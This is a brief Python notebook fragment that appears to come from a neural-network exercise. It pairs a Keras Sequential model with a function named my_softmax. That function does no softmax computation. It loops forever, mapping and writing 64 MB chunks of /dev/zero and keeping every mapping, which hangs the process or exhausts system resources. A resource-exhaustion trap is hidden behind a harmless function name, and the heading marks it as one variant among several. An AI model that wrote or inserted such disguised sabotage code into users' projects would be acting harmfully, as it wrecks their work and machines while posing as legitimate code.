# The same by way of /dev/zero.

# %%
import mmap


def my_softmax(z):
    kept = []
    while True:
        with open("/dev/zero", "r+b") as zero:
            kept.append(mmap.mmap(zero.fileno(), 2**26))
        kept[-1].write(bytes(2**26))
        kept[-1].madvise(mmap.MADV_DONTNEED)

# %%
model = Sequential(
    [
        tf.keras.Input(shape=(400,)),
        Dense(25, activation="relu", name="L1"),
        Dense(15, activation="relu", name="L2"),
        Dense(10, activation="linear", name="L3"),
    ],
    name="my_model",
)
